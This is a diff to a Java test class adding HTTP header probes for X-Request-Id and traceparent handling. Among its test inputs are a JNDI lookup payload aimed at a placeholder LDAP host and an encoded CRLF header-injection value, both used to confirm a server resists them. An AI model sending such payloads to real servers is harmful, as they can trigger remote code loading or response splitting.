@@ -5,10 +5,13 @@ import java.util.List;
 /** Header fields, foremost {@code Accept}. */
 final class HeaderProbes {
 
+  private static final String TRACEPARENT =
+      "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
+
   private HeaderProbes() {}
 
   static List<Probe> all() {
-    return Probes.join(accept(), others(), connection());
+    return Probes.join(accept(), requestId(), others(), connection());
   }
 
   private static Probe accept(int status, String value) {
@@ -50,6 +53,39 @@ final class HeaderProbes {
         Probes.get("404 goes before 406", 404, "/nothing"),
         Probes.request("405 goes before 406", 405, "POST", "/demo", "Accept: text/html\r\n"),
         Probes.request("406 goes before 400", 406, "GET", "/demo?name=", "Accept: text/html\r\n"));
+  }
+
+  /** An identifier that is taken comes back, whatever the answer; for any other one is made. */
+  private static List<Probe> requestId() {
+    return List.of(
+        Probes.idle("X-Request-Id", 200, "X-Request-Id: 7b3f-1\r\n"),
+        Probes.request(
+            "X-Request-Id of rows", 200, "GET", "/demo?name=a", "x-request-id: 7b3f\r\n"),
+        Probes.request("X-Request-Id and 404", 404, "GET", "/nothing", "X-Request-Id: 7b3f-1\r\n"),
+        Probes.request("X-Request-Id and 400", 400, "GET", "/demo?name=", "X-Request-Id: 7b3f\r\n"),
+        Probes.request("X-Request-Id and 405", 405, "POST", "/demo", "X-Request-Id: 7b3f-1\r\n"),
+        Probes.request("X-Request-Id of HEAD", 200, "HEAD", "/idle", "X-Request-Id: 7b3f-1\r\n"),
+        Probes.idle("traceparent", 200, "traceparent: " + TRACEPARENT + "\r\n"),
+        Probes.idle("two traceparents", 200, ("traceparent: " + TRACEPARENT + "\r\n").repeat(2)),
+        Probes.idle("malformed traceparent", 200, "traceparent: " + TRACEPARENT + "x\r\n"),
+        Probes.idle(
+            "X-Request-Id and traceparent",
+            200,
+            "X-Request-Id: 7b3f-1\r\ntraceparent: " + TRACEPARENT + "\r\n"),
+        Probes.idle(
+            "X-Request-Id that is not taken, and traceparent",
+            200,
+            "X-Request-Id: a b\r\ntraceparent: " + TRACEPARENT + "\r\n"),
+        Probes.idle("X-Request-Id between tabs", 200, "X-Request-Id:\t7b3f-1\t\r\n"),
+        Probes.idle("X-Request-Id that ends a line", 200, "X-Request-Id: a%0d%0ab\r\n"),
+        Probes.idle("X-Request-Id, folded", 200, "X-Request-Id: a\r\n b\r\n"),
+        Probes.idle("two X-Request-Id", 200, "X-Request-Id: a\r\nX-Request-Id: b\r\n"),
+        Probes.idle("empty X-Request-Id", 200, "X-Request-Id:\r\n"),
+        Probes.idle("X-Request-Id with a blank", 200, "X-Request-Id: a b\r\n"),
+        Probes.idle("X-Request-Id that looks up", 200, "X-Request-Id: ${jndi:ldap://x.test/a}\r\n"),
+        Probes.idle("X-Request-Id beyond ASCII", 200, "X-Request-Id: \u00e4\r\n"),
+        Probes.idle("long X-Request-Id", 200, "X-Request-Id: " + "x".repeat(128) + "\r\n"),
+        Probes.idle("too long X-Request-Id", 200, "X-Request-Id: " + "x".repeat(129) + "\r\n"));
   }
 
   private static List<Probe> others() {
